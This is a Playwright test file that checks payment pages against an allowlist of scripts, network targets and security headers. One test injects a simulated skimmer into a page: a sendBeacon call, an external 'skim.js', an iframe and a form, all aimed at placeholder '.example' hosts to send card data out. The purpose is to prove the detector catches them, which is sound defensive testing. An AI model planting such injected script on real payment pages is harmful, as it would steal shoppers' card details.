// Compares what Chromium runs and contacts on the pages around a payment with the list in docs/payments.md. A script,
// connection, frame or form target that is not in the list fails the test, and so does a file that differs from the
// build.
import { APP_SCHEME } from '@hindam/contract/app-links';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { COOKIES } from '@hindam/contract/storage';
import type { Page } from '@playwright/test';
import { atProvider, placeButton, toReview, withDraft } from './at-checkout.ts';
import { expect, hasPlenty, inOneProject, test } from './fixtures.ts';
import { BUILT, nameOfFile, type PageContents, type Script, watchContents } from './page-contents.ts';
import type { Order } from './shop-api.ts';

interface Listed {
  names: string[];
  /**
   * The hash of the only text that an inline script may have. Null for an inline script whose text depends on the page,
   * or for a row that is not an inline script.
   */
  hash: string | null;
}

/** The rows of the table below a heading of docs/payments.md: the names in the first cell, and the row's hash. */
function listed(heading: string): Listed[] {
  const text = readFileSync(path.resolve(import.meta.dirname, '../../docs/payments.md'), 'utf8');
  const [, part = ''] = text.split(`### ${heading}\n`);
  const rows = part.split('\n## ')[0]!.split('\n### ')[0]!.split('\n');
  return rows
    .filter((row) => row.startsWith('| `'))
    .map((row) => {
      const cells = row.split('|');
      const names = [...(cells[1] ?? '').matchAll(/`([^`]+)`/g)].map(([, name = '']) => name);
      return { names, hash: /sha256-[\w+/=]+/.exec(row)?.[0] ?? null };
    });
}

const SCRIPTS = listed('Scripts');
const TARGETS = listed('Where they lead');

const TEXT = String.raw`"(?:[^"\\\n]|\\.)*"`;
const FILE = String.raw`"/assets/[\w.-]+\.js"`;
/**
 * Name in docs/payments.md → pattern for an inline script whose text depends on the page. What may vary are the
 * strings, the names and the number of built files, and whether the stream is closed.
 */
const SHAPES: Readonly<Record<string, RegExp>> = {
  'inline data': new RegExp(
    String.raw`^window\.__reactRouterContext\.streamController\.enqueue\(${TEXT}\);(?:window\.__reactRouterContext\.streamController\.close\(\);)?$`,
  ),
  'inline modules': new RegExp(
    String.raw`^import ${FILE};\n(?:import \* as route\d+ from ${FILE};\n)+\s*window\.__reactRouterRouteModules = \{(?:${TEXT}:route\d+,?)+\};\n\nimport\(${FILE}\);$`,
  ),
};

function nameOf({ name, text, hash }: Script): string | null {
  if (name !== '') return SCRIPTS.some(({ names }) => names.includes(name)) ? name : null;
  const row = SCRIPTS.find(({ names, hash: only }) =>
    only === null ? names.some((one) => SHAPES[one]?.test(text)) : only === hash,
  );
  return row?.names[0] ?? null;
}

const isListedTarget = (reached: string): boolean => {
  const place = reached.replace(/ \/(?:en|ar)(?=\/)/, ' /{language}');
  return TARGETS.some(({ names }) =>
    names.some((name) => (name.endsWith('…') ? place.startsWith(name.slice(0, -1)) : place === name)),
  );
};

function unlisted({ scripts, reached }: PageContents): string[] {
  const odd = scripts.flatMap((script) => {
    if (nameOf(script) === null) return [`script ${script.name || `${script.hash} ${script.text.slice(0, 80)}`}`];
    return script.fault === null ? [] : [`script ${script.name} ${script.fault}`];
  });
  return [...new Set([...odd, ...[...reached].filter((one) => !isListedTarget(one))])];
}

const POLICY = [
  "default-src 'none'",
  "script-src 'self'",
  "style-src 'self'",
  "style-src-attr 'unsafe-inline'",
  "img-src 'self' data:",
  "font-src 'self'",
  "connect-src 'self'",
  "manifest-src 'self'",
  "form-action 'self'",
  "frame-ancestors 'none'",
  "base-uri 'none'",
  "object-src 'none'",
].join('; ');
/** The policy of the sandbox provider's page, whose forms may also lead back to the app by its own URL scheme. */
const DEMO_PAYMENT_POLICY = POLICY.replace("form-action 'self'", `form-action 'self' ${APP_SCHEME}:`);

/** Documents whose headers are not those that a page around a payment must have. */
function headerFaults({ documents, scripts }: PageContents): unknown[] {
  const hashes = new Set(scripts.filter(({ name }) => name === '').map(({ hash }) => `'${hash}'`));
  return documents.flatMap(({ path: at, headers }) => {
    const policy = (headers['content-security-policy'] ?? '').replaceAll(/ '(sha256-[^']+)'/g, (word, hash: string) =>
      hashes.has(`'${hash}'`) ? '' : word,
    );
    const found = {
      policy: policy.split('; '),
      store: headers['cache-control'],
      type: headers['x-content-type-options'],
    };
    const wanted = at.startsWith('/dev/pay/') ? DEMO_PAYMENT_POLICY : POLICY;
    const isRight = policy === wanted && found.store?.includes('no-store') && found.type === 'nosniff';
    return isRight ? [] : [[at, found]];
  });
}

async function look(page: Page, contentsOf: () => Promise<PageContents>): Promise<PageContents> {
  await page.waitForLoadState('networkidle');
  return contentsOf();
}

test('the list names no file that is not built', () => {
  const built = new Set(readdirSync(path.join(BUILT, 'assets')).map((file) => nameOfFile(`/assets/${file}`)));
  const files = SCRIPTS.flatMap(({ names }) => names).filter((name) => name.startsWith('/'));
  expect(files.length).toBeGreaterThan(10);
  expect(files.filter((name) => !built.has(name))).toEqual([]);
});

test(
  ...inOneProject('the way from the checkout to the provider and back runs and reaches what is listed'),
  async ({ page, prefix, translate, language, api, find, baseURL }) => {
    await api.guestWith({ piece: await find('', hasPlenty) });
    await withDraft(page, language);
    const contentsOf = await watchContents(page, baseURL ?? '');
    await toReview(page, prefix, translate);
    await look(page, contentsOf);
    await placeButton(page, translate).click();
    await expect(page).toHaveURL(/\/dev\/pay\//);
    await contentsOf();
    await atProvider(page, 'approve');
    await expect(page).toHaveURL(/\/success/);
    const contents = await look(page, contentsOf);
    expect(unlisted(contents)).toEqual([]);
    expect(headerFaults(contents)).toEqual([]);
  },
);

for (const [name, address] of [
  ['cancel', ({ paymentId }) => `cancel?payment_id=${paymentId}`],
  ['failure', ({ paymentId }) => `failure?payment_id=${paymentId}`],
  ['webhook', ({ paymentId }) => `webhook/${paymentId}`],
  ['order', ({ id, key }) => `order-details/${id}?key=${key}`],
] satisfies [string, (order: Order) => string][])
  test(
    ...inOneProject(`the page ${name} runs and reaches what is listed, for who was not asked about cookies yet too`),
    async ({ page, context, prefix, api, find, baseURL }) => {
      const order = await api.order([{ piece: await find('', hasPlenty) }]);
      if (name === 'failure') await api.endPayment(order, 'declined');
      await context.clearCookies({ name: COOKIES.consent });
      const contentsOf = await watchContents(page, baseURL ?? '');
      await page.goto(`${prefix}/${address(order)}`);
      const contents = await look(page, contentsOf);
      expect(unlisted(contents)).toEqual([]);
      expect(headerFaults(contents)).toEqual([]);
    },
  );

test(
  ...inOneProject('a script, connection, frame or form target that nobody listed is found, and a changed file'),
  async ({ page, prefix, api, find, baseURL }) => {
    const { paymentId } = await api.order([{ piece: await find('', hasPlenty) }]);
    const planted = `<script>navigator.sendBeacon('https://beacon.example/card')</script>
      <script src="https://script.example/skim.js"></script><iframe src="https://frame.example/pay"></iframe>
      <form action="https://form.example/card"></form>`;
    await page.route(/\.example\//, (route) => route.fulfill({ body: '', contentType: 'text/javascript' }));
    await page.route('**/webhook/*', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</body>', `${planted}</body>`);
      await route.fulfill({ body, contentType: 'text/html; charset=utf-8' });
    });
    await page.route('**/assets/webhook-*.js', async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: `${await response.text()}\n;0` });
    });
    const contentsOf = await watchContents(page, baseURL ?? '');
    await page.goto(`${prefix}/webhook/${paymentId}`);
    const contents = await look(page, contentsOf);
    const found = unlisted(contents).join('\n');
    for (const one of [
      'beacon.example/card',
      'script https://script.example/skim.js',
      'frame https://frame.example/pay',
      'form https://form.example/card',
      "navigator.sendBeacon('",
      '/assets/webhook.js differs from what was built',
    ])
      expect(found).toContain(one);
    expect(headerFaults(contents)).toHaveLength(1);
  },
);
